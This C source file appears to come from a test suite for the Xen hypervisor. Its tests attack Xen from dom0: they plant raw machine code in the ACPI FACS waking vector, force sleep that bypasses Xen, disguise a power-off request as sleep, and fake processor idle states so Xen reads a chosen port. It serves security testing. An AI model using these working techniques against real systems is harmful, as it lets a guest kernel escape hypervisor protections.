// SPDX-License-Identifier: GPL-2.0-only
/*
 * Sleep of the machine, and of its processors. A machine that wakes is started by
 * its firmware, which goes on where a table tells, before Xen has any of its
 * protections up.
 */
#include "firmware.h"
#include "ports.h"

/* ---- code that runs when the machine wakes ---- */

/*
 * cli; call to the next; pop %esi; add $.., %esi; cld; and then each byte of the
 * text behind it, up to a zero, to the port of Xen's console; hlt. The processor
 * has 32 bits, and no paging.
 */
static const uint8_t tell_all[] = { 0xfa, 0xe8, 0,    0,    0,    0,
                                    0x5e, 0x83, 0xc6, 0x17, 0xfc, 0xac,
                                    0x84, 0xc0, 0x74, 0x07, 0x66, 0xba,
                                    0xf8, 0x03, 0xee, 0xeb, 0xf4, 0xfa,
                                    0xf4, 0xeb, 0xfd, 0x90, 0x90 };

/*
 * Put code into the page of the table FACS, and its address where the firmware
 * looks for a kernel that has 32 bits by then. The code tells the attack's result,
 * because nothing else runs afterwards.
 */
static bool plant(const char *id)
{
    static const unsigned int native_vector = 24, free_space = 0x800;
    const uint64_t facs = facs_table();
    volatile char *page = facs ? map_machine(facs / PAGE_SIZE, 1) : NULL;
    char *code = (char *)page + free_space;

    if ( !page || !can_change(page, facs % PAGE_SIZE + native_vector) ||
         !can_change(page, free_space) )
        return false;
    memcpy(code, tell_all, sizeof(tell_all));
    sprintf(code + sizeof(tell_all),
            "\r\n@rogue result %s succeeds code of ours ran when the machine "
            "woke\r\n@rogue done 1\r\n",
            id);
    *(volatile uint64_t *)(page + facs % PAGE_SIZE +
                           native_vector) = (facs & PAGE_MASK) + free_space;

    return true;
}

#define SLEEP_NOW    (1 << 13)
#define SLEEP_TO_RAM (1 << 10) /* of this chipset */

#define CLOCK_SECOND    0
#define CLOCK_ALARM     1 /* its second, minute and hour are at 1, 3, 5 */
#define CLOCK_B         11
#define CLOCK_C         12
#define CLOCK_ANY       0xff
#define CLOCK_INTERRUPT 0x20

/* Have the clock wake the machine in some four seconds. It counts in decimals. */
static void set_clock(void)
{
    static const uint16_t clock = 1 << 10;
    const uint8_t now = cmos_read(CLOCK_SECOND);
    const unsigned int then = (now / 16U * 10 + now % 16U + 4) % 60;

    cmos_write(CLOCK_ALARM, (uint8_t)(then / 10 * 16 + then % 10));
    cmos_write(CLOCK_ALARM + 2, CLOCK_ANY);
    cmos_write(CLOCK_ALARM + 4, CLOCK_ANY);
    cmos_write(CLOCK_B, cmos_read(CLOCK_B) | CLOCK_INTERRUPT);
    cmos_read(CLOCK_C);
    port_out((uint16_t)(PM1_EVENT + 2), 2, clock);
}

static enum outcome wake_to_ours(const char *id, void (*sleep)(void))
{
    if ( !facs_table() )
        return cannot_try("the firmware has no table for it");
    if ( !plant(id) )
        return effect(false, "where the firmware goes on cannot be changed");
    announce("about to sleep");
    set_clock();
    sleep();
    rest(6000);

    return effect(false, "the machine did not wake to code of ours");
}

static void sleep_by_port(void)
{
    port_out(PM1_CONTROL, 2, SLEEP_TO_RAM | SLEEP_NOW);
}

/*
 * K-PORT-S3: send the machine to sleep without Xen.
 *
 * It would have seen to it that the firmware goes on with Xen.
 */
KERNEL_ATTACK_OWN_BOOT("K-PORT-S3",
                       "sleep without Xen, and wake to code of ours")
{
    return wake_to_ours("K-PORT-S3", sleep_by_port);
}

static void sleep_as_off(void)
{
    PLATFORM_OP(enter_acpi_sleep,
                .u.enter_acpi_sleep = { .sleep_state = 5,
                                        .val_a = SLEEP_TO_RAM | SLEEP_NOW });
}

/*
 * K-SLEEP-TYPE: have Xen send the machine to sleep while it means to switch it off.
 *
 * What dom0 gives as the value for it is one that the machine wakes from.
 */
KERNEL_ATTACK_OWN_BOOT("K-SLEEP-TYPE", "sleep by the name of switching off")
{
    return wake_to_ours("K-SLEEP-TYPE", sleep_as_off);
}

/* ---- idle processors ---- */

#define LINE_DATA   0x2f8 /* the second serial line's */
#define LINE_MODEM  0x2fc
#define LINE_STATUS 0x2fd
#define LOOP        0x10
#define DATA_READY  1

/* Have Xen read this port when a processor is idle. */
static void idle_by_port(uint32_t processor, uint16_t port)
{
    static const uint32_t io_ports = 1;
    xen_processor_cx_t state = {
        .type = 1,
        .latency = 1,
        .reg = { .space_id = io_ports, .bit_width = 8, .address = port }
    };

    PLATFORM_OP(
        set_processor_pminfo,
        .u.set_pminfo = { .id = processor,
                          .type = XEN_PM_CX,
                          .u.power = { .count = 1, .states.p = &state } });
}

/*
 * K-PMINFO-CX: have Xen read a port of dom0's choosing.
 *
 * Xen believes how a processor is put to rest. The port is that of a serial line
 * that sends to itself: who reads it takes what it has received away.
 */
KERNEL_ATTACK_OWN_BOOT("K-PMINFO-CX", "have Xen read a port when it is idle")
{
    const uint32_t before = port_in(LINE_MODEM, 1);
    bool was_there = false, is_there;

    port_out(LINE_MODEM, 1, before | LOOP);
    for ( unsigned int i = 0; i < 10 && !was_there; i++ )
    {
        port_out(LINE_DATA, 1, 'x');
        rest(500);
        was_there = port_in(LINE_STATUS, 1) & DATA_READY;
    }
    idle_by_port(0, LINE_DATA);
    idle_by_port(1, LINE_DATA);
    rest(500);
    is_there = port_in(LINE_STATUS, 1) & DATA_READY;
    port_out(LINE_MODEM, 1, before);

    if ( !was_there )
        return cannot_try("no serial line that sends to itself");
    return effect_either(!is_there, "what the line had received",
                         "was taken by Xen", "is there");
}
